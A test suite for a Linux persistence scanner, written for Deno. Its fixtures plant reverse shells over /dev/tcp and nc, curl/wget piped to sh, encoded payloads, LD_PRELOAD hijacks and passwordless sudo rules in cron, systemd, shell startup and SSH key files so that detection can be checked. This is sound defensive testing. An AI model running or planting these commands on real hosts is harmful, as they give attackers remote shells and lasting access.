import assert from "node:assert/strict";
import type { Finding } from "../../src/core/finding.ts";
import { persistence } from "../../src/scanners/persistence/index.ts";
import { keyFileTimes } from "../../src/scanners/persistence/sources/ssh_keys.ts";
import { fixtureRoot, makeTree, runOne, scanInPrivateMounts, sh, type TreeEntry } from "../helpers.ts";
import { ED25519 } from "./persistence_fixtures.ts";
import { needs } from "../host_caps.ts";

const STOCK = fixtureRoot("persist-debian-stock");

const PASSWD = [
  "root:x:0:0:root:/root:/bin/bash",
  "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
  "alice:x:1000:1000::/home/alice:/bin/bash",
  "bob:x:1001:1001::/home/bob:/bin/bash",
].join("\n") + "\n";
const GROUP = "root:x:0:\nsudo:x:27:alice\ndocker:x:998:bob\nalice:x:1000:\nbob:x:1001:\n";

function base(extra: Record<string, TreeEntry>): Record<string, TreeEntry> {
  return { "etc/passwd": PASSWD, "etc/group": GROUP, ...extra };
}

function summary(findings: Finding[]): string[] {
  return findings.map((f) => `${f.severity} ${f.check_id} ${f.metadata.path ?? ""}`).sort();
}

Deno.test("persistence: a stock Debian host gives no findings and no warnings", async () => {
  const r = await runOne(persistence, STOCK);
  assert.equal(r.status, "ok");
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.warnings, []);
});

Deno.test("persistence: a stock RHEL-family host (cronie, anacron, profile.d, wheel, cloud-init user) is quiet", async () => {
  const r = await runOne(persistence, fixtureRoot("persist-rhel-stock"));
  assert.equal(r.status, "ok");
  assert.deepEqual(r.findings, []);
  assert.deepEqual(r.warnings, []);
  const inv = await runOne(persistence, fixtureRoot("persist-rhel-stock"), { persistenceInventory: true });
  assert.ok(
    inv.findings.some((f) =>
      f.metadata.path === "/etc/cron.daily/man-db.cron" && f.metadata.inert === undefined
    ),
  );
  assert.ok(
    inv.findings.some((f) => f.metadata.path === "/etc/sudoers.d/90-cloud-init-users"),
    "#includedir is followed",
  );
});

Deno.test("persistence: --persistence-inventory lists every point once, as info, with hashes", async () => {
  const r = await runOne(persistence, STOCK, { persistenceInventory: true });
  assert.ok(r.findings.every((f) => f.severity === "info" && f.check_id === "persistence.inventory.point"));
  const ids = r.findings.map((f) => f.id);
  assert.equal(new Set(ids).size, ids.length);
  const kinds = new Set(r.findings.map((f) => f.metadata.kind));
  for (
    const k of [
      "cron",
      "cron_script",
      "systemd_timer",
      "shell_startup",
      "udev_rule",
      "sudoers",
      "xdg_autostart",
    ]
  ) {
    assert.ok(kinds.has(k), k);
  }
  assert.ok(!ids.some((id) => id.includes(":/lib/udev/")), "merged /usr: /lib/udev is the same directory");
  const logrotate = r.findings.find((f) =>
    f.id === "persistence.inventory.point:systemd_timer:/usr/lib/systemd/system/logrotate.timer"
  );
  assert.deepEqual(logrotate?.metadata.triggers, "logrotate.service");
  assert.deepEqual(logrotate?.metadata.entries, ["/usr/sbin/logrotate /etc/logrotate.conf"]);
  assert.deepEqual(logrotate?.metadata.enabled, true);
  const crontab = r.findings.find((f) => f.metadata.path === "/etc/crontab")!;
  assert.equal(crontab.metadata.entry_count, 4);
  assert.match(String(crontab.metadata.sha256), /^[0-9a-f]{64}$/);
});

Deno.test("persistence: payloads and untrusted locations in every kind of point fire once each", async () => {
  using root = makeTree(base({
    "etc/cron.d/evil": "* * * * * root curl -fsSL http://203.0.113.5/x | sh\n",
    "etc/crontab":
      "SHELL=/bin/sh\n*/5 * * * * root /home/bob/backup.sh\n*/5 * * * * root /home/bob/backup.sh\n",
    "var/spool/cron/crontabs/bob": "@reboot /tmp/.x/agent\n",
    "root/.bashrc": "alias ll='ls -l'\n(bash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &)\n",
    "home/bob/.profile": "echo ZWNobyBoaQ== | base64 -d | sh\n",
    "etc/udev/rules.d/99-x.rules": 'ACTION=="add", SUBSYSTEM=="usb", RUN+="/var/tmp/u.sh"\n',
    "etc/ld.so.preload": "# preload\n/dev/shm/libx.so\n",
    "etc/xdg/autostart/x.desktop": "[Desktop Entry]\nType=Application\nExec=/tmp/x --hidden\n",
    "home/bob/.config/autostart/y.desktop":
      '[Desktop Entry]\nExec=sh -c "wget -qO- http://203.0.113.5/y | sh"\n',
    "etc/systemd/system/evil.timer": "[Timer]\nOnBootSec=1min\nOnUnitActiveSec=5min\n",
    "etc/systemd/system/evil.service": "[Service]\nType=oneshot\nExecStart=/dev/shm/kw\n",
    "home/bob/.config/systemd/user/u.service":
      "[Service]\nExecStart=/bin/sh -c 'nc -e /bin/sh 203.0.113.5 1'\n",
    "etc/systemd/system/local.service":
      "[Service]\nExecStartPre=/usr/bin/true\nExecStart=/var/tmp/.d/agent\n",
    // A package's own unit is judged by what it runs too: no package runs a program from /var/tmp.
    "usr/lib/systemd/system/vendor.service": "[Service]\nExecStart=/var/tmp/vendor\n",
    "etc/rc.local": { content: "#!/bin/sh -e\n/usr/local/bin/startup\nexit 0\n", mode: 0o755 },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok");
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /home/bob/.config/systemd/user/u.service",
    "critical persistence.command.reverse_shell /root/.bashrc",
    "high persistence.command.download_exec /etc/cron.d/evil",
    "high persistence.command.download_exec /home/bob/.config/autostart/y.desktop",
    "high persistence.command.encoded_payload /home/bob/.profile",
    "high persistence.command.untrusted_path /etc/crontab",
    "high persistence.command.untrusted_path /etc/ld.so.preload",
    "high persistence.command.untrusted_path /etc/systemd/system/evil.timer",
    "high persistence.command.untrusted_path /etc/systemd/system/local.service",
    "high persistence.command.untrusted_path /etc/udev/rules.d/99-x.rules",
    "high persistence.command.untrusted_path /etc/xdg/autostart/x.desktop",
    "high persistence.command.untrusted_path /usr/lib/systemd/system/vendor.service",
    "high persistence.command.untrusted_path /var/spool/cron/crontabs/bob",
    "low persistence.rc_local.active /etc/rc.local",
  ]);
  const crontab = r.findings.find((f) => f.metadata.path === "/etc/crontab")!;
  assert.deepEqual(crontab.metadata.indicators, ["other_home:/home/bob/backup.sh"]);
  assert.deepEqual(crontab.metadata.run_as, "root");
  assert.match(crontab.id, /^persistence\.command\.untrusted_path:\/etc\/crontab:[0-9a-f]{12}$/);
  const bob = r.findings.find((f) => f.metadata.path === "/var/spool/cron/crontabs/bob")!;
  assert.deepEqual([bob.metadata.run_as, bob.metadata.indicators], ["bob", ["temp_dir:/tmp/.x/agent"]]);
  const timer = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/evil.timer")!;
  assert.deepEqual(timer.metadata.triggers, "evil.service");
  const again = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(
    again.findings.map((f) => f.id),
    r.findings.map((f) => f.id),
    "ids are stable across runs",
  );
});

Deno.test("persistence: normal entries stay quiet (own home, root-owned programs, files that cannot run, disabled autostart)", async () => {
  using root = makeTree(base({
    "var/spool/cron/crontabs/bob": "0 3 * * * /home/bob/bin/backup.sh\n",
    "etc/cron.d/app": "*/10 * * * * root /usr/local/bin/app-cron --quiet >/dev/null 2>&1\n",
    "home/bob/.bashrc": "[ -f ~/.bash_aliases ] && . ~/.bash_aliases\nexport PATH=$HOME/bin:$PATH\n",
    "etc/rc.local": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
    "etc/rc.d/rc.local": { content: "#!/bin/bash\ntouch /var/lock/subsys/local\nexit 0\n", mode: 0o755 },
    "home/bob/.config/autostart/y.desktop": "[Desktop Entry]\nExec=/tmp/y\nHidden=true\n",
    "usr/local/bin/app-cron": { content: "#!/bin/sh\n", mode: 0o755 },
    // Names no cron and no run-parts loads (a .dpkg-old is loaded by RHEL's cronie and run-parts: judged).
    "etc/cron.d/app.rpmsave": "* * * * * root /tmp/old\n",
    "etc/cron.daily/old~": { content: "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n", mode: 0o755 },
    "etc/cron.daily/disabled": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o644 },
    "etc/cron.daily/active": { content: "#!/bin/sh\n/tmp/x\n", mode: 0o755 },
    "etc/cron.daily/rhel.cron": { content: "#!/bin/sh\n/tmp/y\n", mode: 0o755 },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.untrusted_path /etc/cron.daily/active",
    "high persistence.command.untrusted_path /etc/cron.daily/rhel.cron",
  ]);
  const inv = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const inert = inv.findings.filter((f) => f.metadata.inert === true).map((f) => f.metadata.path).sort();
  assert.deepEqual(inert, [
    "/etc/cron.d/app.rpmsave",
    "/etc/cron.daily/disabled",
    "/etc/cron.daily/old~",
    "/etc/rc.local",
  ]);
});

Deno.test("persistence: LD_PRELOAD in start-up files and ld.so.preload entries are judged by location", async () => {
  using root = makeTree(base({
    "etc/environment": 'LANG=C.UTF-8\nLD_PRELOAD="/dev/shm/.l/libhide.so"\n',
    "home/alice/.bashrc": "export LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
    "etc/ld.so.preload": "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
    "usr/lib/x86_64-linux-gnu/libjemalloc.so.2": "",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(r.findings.map((f) => [f.check_id, f.severity, f.metadata.path, f.metadata.entry]), [
    ["persistence.environment.loader_var", "high", "/etc/environment", "/dev/shm/.l/libhide.so"],
  ]);
});

Deno.test("persistence: at jobs run as their atrun uid (only executable ones); update-motd scripts as root when run-parts would run them", async () => {
  const atJob =
    "#!/bin/sh\n# atrun uid=1001 gid=1001\numask 22\ncd /home/bob || {\n  exit 1\n}\n/tmp/.x/stage2\n";
  using root = makeTree(base({
    "var/spool/cron/atjobs/a0000101a2b3c4": { content: atJob, mode: 0o700 },
    "var/spool/cron/atjobs/a0000201a2b3c5": { content: atJob.replace("stage2", "stage3"), mode: 0o600 },
    "etc/update-motd.d/10-uname": { content: "#!/bin/sh\nuname -snrvm\n", mode: 0o755 },
    "etc/update-motd.d/99-x": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/m | sh\n", mode: 0o755 },
    "etc/update-motd.d/98-off": { content: "#!/bin/sh\ncurl -s http://203.0.113.5/m | sh\n", mode: 0o644 },
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(r.findings.map((f) => [f.check_id, f.metadata.path]), [
    ["persistence.command.untrusted_path", "/var/spool/cron/atjobs/a0000101a2b3c4"],
    ["persistence.command.download_exec", "/etc/update-motd.d/99-x"],
  ]);
  assert.deepEqual(r.findings.map((f) => f.metadata.run_as), ["bob", "root"], "atrun's uid= header decides");
});

Deno.test(needs(["root"], {
  name: "persistence: programs other accounts can change are untrusted (ownership, world-writable)",
  fn: async () => {
    using root = makeTree(base({
      "etc/cron.d/app":
        "0 * * * * root /opt/app/run.sh\n5 * * * * root /srv/shared/job.sh\n7 * * * * bob /opt/app/run.sh\n",
      "opt/app/run.sh": { content: "#!/bin/sh\n", mode: 0o755 },
      "srv/shared/job.sh": { content: "#!/bin/sh\n", mode: 0o757 },
    }));
    Deno.chownSync(`${root.path}/opt/app/run.sh`, 1001, 1001);
    const r = await runOne(persistence, root.path);
    assert.deepEqual(r.findings.map((f) => [f.severity, f.metadata.run_as, f.metadata.indicators]), [
      ["high", "root", ["foreign_owner:/opt/app/run.sh"]],
      ["high", "root", ["world_writable_file:/srv/shared/job.sh"]],
    ]);
  },
}));

Deno.test("persistence: a clean-looking entry that runs a script holding a payload is judged by the script", async () => {
  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
  using root = makeTree(base({
    "etc/systemd/system/syshealth.service": "[Service]\nExecStart=/usr/local/bin/syshealth.sh\n" +
      "[Install]\nWantedBy=multi-user.target\n",
    "etc/systemd/system/multi-user.target.wants/syshealth.service": {
      symlink: "/etc/systemd/system/syshealth.service",
    },
    "usr/local/bin/syshealth.sh": { content: `#!/bin/sh\n# health\n${rev}\n`, mode: 0o755 },
    "etc/cron.d/logsync": "*/10 * * * * root /opt/logsync/run.sh --quiet\n",
    "opt/logsync/run.sh": { content: "#!/bin/sh\ncurl -fsSL http://203.0.113.5/x | sh\n", mode: 0o755 },
    "home/bob/.bashrc": ". /usr/share/misc/prompt-helper\n",
    "usr/share/misc/prompt-helper": `${rev} &\n`,
    // Quiet: a script with nothing in it, and a program (NUL bytes) whose strings look like a payload.
    "etc/cron.d/tidy": "0 4 * * * root /usr/local/sbin/tidy.sh\n",
    "usr/local/sbin/tidy.sh": { content: "#!/bin/sh\nfind /var/tmp -mtime +7 -delete\n", mode: 0o755 },
    "etc/cron.d/agent": "0 * * * * root /usr/local/sbin/agent\n",
    "usr/local/sbin/agent": { content: `\u007fELF\u0002\u0001\u0000\u0000${rev}\u0000`, mode: 0o755 },
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
    "critical persistence.command.reverse_shell /etc/systemd/system/syshealth.service",
    "critical persistence.command.reverse_shell /home/bob/.bashrc",
    "high persistence.command.download_exec /etc/cron.d/logsync",
  ]);
  const unit = r.findings.find((f) => f.metadata.path === "/etc/systemd/system/syshealth.service")!;
  assert.deepEqual(unit.metadata.indicators, ["dev_tcp_redirect:/usr/local/bin/syshealth.sh:3"]);
});

Deno.test("persistence: a payload down a chain of scripts is found; a loop of scripts and a fifth link end", async () => {
  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
  const script = (content: string) => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
  using root = makeTree(base({
    "etc/cron.d/backup": "0 3 * * * root /usr/local/sbin/backup.sh\n",
    "usr/local/sbin/backup.sh": script("tar czf /var/backups/etc.tgz /etc\n/usr/local/lib/backup/rotate.sh"),
    "usr/local/lib/backup/rotate.sh": script(". /usr/local/lib/backup/common.sh"),
    "usr/local/lib/backup/common.sh": script(`${rev} &`),
    // A loop: a.sh runs b.sh, which runs a.sh; nothing in either.
    "etc/cron.d/loop": "*/5 * * * * root /usr/local/sbin/a.sh\n",
    "usr/local/sbin/a.sh": script("/usr/local/sbin/b.sh"),
    "usr/local/sbin/b.sh": script("/usr/local/sbin/a.sh"),
    // The payload in the fifth script of a chain is past the chain's end.
    "etc/cron.d/deep": "0 * * * * root /opt/d/1.sh\n",
    "opt/d/1.sh": script("/opt/d/2.sh"),
    "opt/d/2.sh": script("/opt/d/3.sh"),
    "opt/d/3.sh": script("/opt/d/4.sh"),
    "opt/d/4.sh": script("/opt/d/5.sh"),
    "opt/d/5.sh": script(rev),
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
    "critical persistence.command.reverse_shell /etc/cron.d/backup",
  ]);
  const f = r.findings.find((x) => x.metadata.path === "/etc/cron.d/backup")!;
  assert.deepEqual(f.metadata.indicators, ["dev_tcp_redirect:/usr/local/lib/backup/common.sh:2"]);
});

Deno.test("persistence: script chains cannot blow up (each payload once, capped) or hide behind a deeper decoy", async () => {
  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
  const script = (content: string) => ({ content: `#!/bin/sh\n${content}\n`, mode: 0o755 });
  using root = makeTree(base({
    // A user's crontab: a.sh runs b.sh 150 times, b.sh runs c.sh 150 times, c.sh holds 150 payload lines.
    "var/spool/cron/crontabs/bob": "* * * * * /home/bob/a.sh\n",
    "home/bob/a.sh": script("/home/bob/b.sh\n".repeat(150)),
    "home/bob/b.sh": script("/home/bob/c.sh\n".repeat(150)),
    "home/bob/c.sh": script(`${rev}\n`.repeat(150)),
    // A decoy chain reaches q4.sh fourth (its child not followed there); the job that runs q4.sh first is judged.
    "etc/cron.d/decoy": "0 1 * * * root /opt/q/q1.sh\n",
    "opt/q/q1.sh": script("/opt/q/q2.sh"),
    "opt/q/q2.sh": script("/opt/q/q3.sh"),
    "opt/q/q3.sh": script("/opt/q/q4.sh"),
    "opt/q/q4.sh": script("/opt/q/q5.sh"),
    "opt/q/q5.sh": script(rev),
    "etc/cron.d/zz-real": "0 2 * * * root /opt/q/q4.sh\n",
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok", r.reason);
  const cmd = summary(r.findings).filter((f) => f.includes("persistence.command.reverse_shell"));
  assert.deepEqual(cmd, [
    "critical persistence.command.reverse_shell /etc/cron.d/zz-real",
    "critical persistence.command.reverse_shell /var/spool/cron/crontabs/bob",
  ]);
  const bob = r.findings.find((f) => f.metadata.path === "/var/spool/cron/crontabs/bob")!;
  assert.equal((bob.metadata.indicators as string[]).length, 64);
});

Deno.test("persistence: a program named through a variable set to a path earlier in the file is judged", async () => {
  const rev = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
  using root = makeTree(base({
    "home/bob/.bashrc": 'F=/usr/share/doc/.x; [ -f "$F" ] && . "$F"\n',
    "usr/share/doc/.x": `${rev} &\n`,
    "etc/cron.d/sync": "SHELL=/bin/sh\n*/5 * * * * root D=/var/tmp/.s; ${D}/agent --quiet\n",
    // Quiet: a variable never set, a path list, and one set to a packaged-looking path that is clean.
    "home/alice/.bashrc": 'export EDITOR=/usr/bin/vim\nalias e="$EDITOR"\n$UNSET/x\nPATH=/opt/x:$PATH\n',
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.deepEqual(summary(r.findings).filter((f) => f.includes("persistence.command")), [
    "critical persistence.command.reverse_shell /home/bob/.bashrc",
    "high persistence.command.untrusted_path /etc/cron.d/sync",
  ]);
});

Deno.test("persistence: sudoers — passwordless root, !authenticate, env_keep of code, untrusted includes", async () => {
  using root = makeTree(base({
    "etc/sudoers": [
      "Defaults env_reset",
      "root ALL=(ALL:ALL) ALL",
      "%sudo ALL=(ALL:ALL) ALL",
      "%google-sudoers ALL=(ALL:ALL) NOPASSWD:ALL",
      "alice ALL=(ALL) NOPASSWD: ALL",
      "bob ALL=(ALL) NOPASSWD: ALL",
      "%docker ALL=(root) NOPASSWD: /usr/bin/vim",
      "ALL ALL=(ALL) NOPASSWD: ALL",
      "bob ALL=(ALL) NOPASSWD: /usr/bin/systemctl restart nginx",
      "bob ALL=(ALL) ALL",
      "@includedir /etc/sudoers.d",
      "#include /tmp/sudo.inc",
    ].join("\n") + "\n",
    "etc/sudoers.d/50-ops": "Defaults:bob !authenticate\n",
    "etc/sudoers.d/60-env": 'Defaults env_keep += "LD_PRELOAD"\nDefaults env_keep += "LANG LC_ALL"\n',
    "etc/sudoers.d/README.dpkg-dist": "bob ALL=(ALL) NOPASSWD: ALL\n",
    "tmp/sudo.inc": "# nothing\n",
  }));
  const r = await runOne(persistence, root.path);
  assert.deepEqual(
    r.findings.map((f) => `${f.severity} ${f.check_id} ${(f.metadata.principals ?? []) as string[]}`).sort(),
    [
      "critical persistence.sudoers.nopasswd_all ALL",
      "high persistence.sudoers.env_keep_code ",
      "high persistence.sudoers.include_untrusted ",
      "high persistence.sudoers.no_authenticate ",
      "high persistence.sudoers.nopasswd_all %docker",
      "high persistence.sudoers.nopasswd_all bob",
    ],
  );
});

Deno.test("persistence: SSH keys — forced commands, unusual files, recent changes with fingerprints", async () => {
  const key = `ssh-ed25519 ${ED25519}`;
  using root = makeTree(base({
    "root/.ssh/authorized_keys": `command="/usr/local/bin/backup-only" ${key} backup\n`,
    "home/alice/.ssh/authorized_keys": `${key} alice@laptop\n`,
    "home/bob/.ssh/authorized_keys2": `${key} bob\n`,
    "var/www/.ssh/authorized_keys": `${key} deploy\n`,
    "home/bob/.ssh/authorized_keys": `command="bash -i >& /dev/tcp/203.0.113.5/9 0>&1" ${key} x\n`,
  }));
  const old = new Date(Date.now() - 30 * 86_400_000);
  for (
    const p of [
      "root/.ssh/authorized_keys",
      "home/bob/.ssh/authorized_keys2",
      "var/www/.ssh/authorized_keys",
      "home/bob/.ssh/authorized_keys",
    ]
  ) {
    Deno.utimeSync(`${root.path}/${p}`, old, old);
  }
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 7 });
  assert.deepEqual(summary(r.findings), [
    "critical persistence.command.reverse_shell /home/bob/.ssh/authorized_keys",
    "low persistence.ssh_key.forced_command /home/bob/.ssh/authorized_keys",
    "low persistence.ssh_key.recent /home/alice/.ssh/authorized_keys",
    "medium persistence.ssh_key.forced_command /root/.ssh/authorized_keys",
    "medium persistence.ssh_key.unusual_location /home/bob/.ssh/authorized_keys2",
    "medium persistence.ssh_key.unusual_location /var/www/.ssh/authorized_keys",
  ]);
  const recent = r.findings.find((f) => f.check_id === "persistence.ssh_key.recent")!;
  assert.deepEqual(recent.metadata.fingerprints, [
    "ssh-ed25519 SHA256:3Itk2k+36n1W8ICjBqEATNlzg1G1411xJHSKL6U/gGc",
  ]);
  assert.equal(typeof recent.metadata.appended_in_place, "boolean");
  const off = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.ok(!off.findings.some((f) => f.check_id === "persistence.ssh_key.recent"));
});

Deno.test("keyFileTimes: on the live host a key file back-dated with touch -d is still recent (its ctime)", () => {
  const day = 86_400_000;
  const now = Date.UTC(2026, 11, 7);
  const backdated = { mtime: new Date(Date.UTC(2020, 0, 1)), ctime: new Date(now - day / 2) };
  assert.deepEqual(keyFileTimes(backdated, true), {
    mtime: Date.UTC(2020, 0, 1),
    ctime: now - day / 2,
    changed: now - day / 2,
    backdated: true,
  });
  // In an image or a copied tree every ctime is the unpacking: only mtime counts there.
  assert.deepEqual(keyFileTimes(backdated, false), {
    mtime: Date.UTC(2020, 0, 1),
    ctime: undefined,
    changed: Date.UTC(2020, 0, 1),
    backdated: false,
  });
  // A file written and left alone: the same time twice, nothing set back.
  const plain = { mtime: new Date(now - 3 * day), ctime: new Date(now - 3 * day) };
  assert.deepEqual(keyFileTimes(plain, true).backdated, false);
  assert.deepEqual(keyFileTimes({ mtime: null, ctime: null }, true).changed, undefined);
});

Deno.test("persistence: sshd AuthorizedKeysFile is honoured (%u patterns outside the home)", async () => {
  using root = makeTree(base({
    "etc/ssh/sshd_config":
      "AuthorizedKeysFile /etc/ssh/keys/%u .ssh/authorized_keys\nMatch User x\n  AuthorizedKeysFile none\n",
    "etc/ssh/keys/www-data": `ssh-ed25519 ${ED25519} hidden\n`,
  }));
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0, persistenceInventory: true });
  const inv = r.findings.filter((f) => f.metadata.kind === "authorized_keys").map((f) => f.metadata.path);
  assert.deepEqual(inv, ["/etc/ssh/keys/www-data"]);
  assert.deepEqual(summary(r.findings.filter((f) => f.check_id !== "persistence.inventory.point")), [
    "medium persistence.ssh_key.unusual_location /etc/ssh/keys/www-data",
  ]);
});

Deno.test("persistence: hostile file names, FIFOs and garbage content neither hang nor throw", async () => {
  using root = makeTree(base({
    "etc/cron.d/evil\nname\u001b[31m": "* * * * * root /dev/shm/x\n",
    "etc/cron.d/garbage": "\u0000\u00ff\u00fe not a crontab\n* * *\n",
    "etc/sudoers": "\u0000((((\n",
    "root/.ssh/authorized_keys": "ssh-ed25519 !!!!\n",
  }));
  sh("/usr/bin/mkfifo", `${root.path}/etc/cron.d/fifo`);
  assert.ok(Deno.lstatSync(`${root.path}/etc/cron.d/fifo`).isFifo, "a FIFO among the cron files");
  await new Deno.Command("/bin/sh", {
    args: ["-c", 'printf "* * * * * root /tmp/x\\n" > "$(printf "$0/etc/cron.d/bad\\377name")"', root.path],
  }).output();
  const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
  assert.equal(r.status, "ok");
  // The name that is not UTF-8 cannot be opened through Deno: cron reads it, so it is a finding.
  assert.deepEqual(summary(r.findings), [
    "high persistence.command.untrusted_path /etc/cron.d/evil\nname\u001b[31m",
    "high persistence.file.undecodable_name /etc/cron.d/bad\uFFFDname",
  ]);
  const codes = r.warnings.map((w) => w.code).sort();
  assert.deepEqual(codes, [
    "authorized_keys_malformed",
    "cron_malformed",
    "persistence_unreadable",
    "sudoers_malformed",
  ]);
  const unreadable = r.warnings.filter((w) => w.code === "persistence_unreadable").map((w) => w.detail!);
  assert.match(unreadable[0], /^\/etc\/cron\.d\/fifo: .*\(a FIFO\); not opened$/);
  JSON.parse(JSON.stringify(r.findings));
});

Deno.test(needs(["root"], {
  name: "persistence: a device or a directory where a file is expected is said; only /dev/null masks quietly",
  fn: async () => {
    using root = makeTree(base({ "etc/cron.d/app": "0 3 * * * root /usr/bin/true\n" }));
    // The null device (a masked file), /dev/zero's numbers as the system crontab, a directory as sudoers.
    sh("/usr/bin/mknod", `${root.path}/etc/cron.d/masked`, "c", "1", "3");
    sh("/usr/bin/mknod", `${root.path}/etc/crontab`, "c", "1", "5");
    Deno.mkdirSync(`${root.path}/etc/sudoers`);
    const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
    assert.equal(r.status, "ok");
    const said = r.warnings.filter((w) => w.code === "persistence_unreadable").map((w) => w.detail!).sort();
    assert.equal(said.length, 2, said.join("\n"));
    assert.match(said[0], /^\/etc\/crontab: /);
    assert.match(said[1], /^\/etc\/sudoers: /);
  },
}));

Deno.test(needs(["root", "unshare", "cronDir"], {
  name: "persistence: on the live host, a cron job planted in /etc/cron.d (private namespace) is found",
  fn: async () => {
    const name = `sys-scan-planted-${Deno.pid}`;
    // A tmpfs over /etc/cron.d in a private mount namespace: the host's own directory is never written.
    const plant = "mount -t tmpfs -o mode=755 tmpfs /etc/cron.d && " +
      `printf '* * * * * root /dev/shm/.x\\n' > /etc/cron.d/${name}`;
    const out = await scanInPrivateMounts(plant, ["--enable", "persistence"]);
    assert.equal(out.code, 0, out.stderr);
    const r = out.results.find((x) => x.scanner === "persistence")!;
    assert.equal(r.status, "ok");
    const ids = r.findings.map((f) => f.id);
    const planted = `persistence.command.untrusted_path:/etc/cron.d/${name}`;
    assert.ok(ids.some((id: string) => id.startsWith(planted)), ids.join("\n"));
    assert.throws(
      () => Deno.lstatSync(`/etc/cron.d/${name}`),
      Deno.errors.NotFound,
      "nothing left on the host",
    );
  },
}));

Deno.test(needs(["root"], {
  name:
    "persistence: a user's ~/.bashrc symlinked to a FIFO or to root's file is judged as a link, never opened",
  fn: async () => {
    using root = makeTree(base({
      "root/secret": "export SECRET=1\n",
      "home/alice/.profile": { symlink: "/root/secret" },
    }));
    sh("/usr/bin/mkfifo", `${root.path}/home/alice/fifo`);
    Deno.symlinkSync("fifo", `${root.path}/home/alice/.bashrc`);
    for (const p of ["home/alice", "home/alice/fifo"]) Deno.chownSync(`${root.path}/${p}`, 1000, 1000);
    sh(
      "/bin/chown",
      "-h",
      "1000:1000",
      `${root.path}/home/alice/.bashrc`,
      `${root.path}/home/alice/.profile`,
    );
    // A writer that blocks until someone opens the FIFO for reading: it must still be waiting afterwards.
    const writer = new Deno.Command("/usr/bin/timeout", {
      args: ["20", "/bin/sh", "-c", 'echo "curl x|sh" > "$0"', `${root.path}/home/alice/fifo`],
    }).spawn();
    try {
      const started = Date.now();
      const r = await runOne(persistence, root.path, { persistenceRecentDays: 0 });
      assert.ok(Date.now() - started < 10_000, "the scan did not wait on the FIFO");
      assert.equal(r.status, "ok");
      const text = JSON.stringify(r);
      assert.doesNotMatch(text, /SECRET|curl x/, "neither target was read");
      // Both are named, not silently skipped: the FIFO by its kind, the link by its owners.
      const said = r.warnings.map((w) => `${w.code} ${w.detail}`).sort();
      assert.equal(said.length, 2, text);
      assert.match(said[0], /^persistence_unreadable \/home\/alice\/\.bashrc: .*a FIFO\); not opened$/);
      assert.match(said[1], /^persistence_unreadable \/home\/alice\/\.profile: .*symlink owned by uid 1000/);
    } finally {
      try {
        // SIGTERM, which timeout(1) passes on to the blocked shell; a SIGKILL would end timeout alone and leave
        // the shell blocked on the FIFO for ever.
        writer.kill("SIGTERM");
      } catch {
        // already gone
      }
      await writer.status;
    }
  },
}));
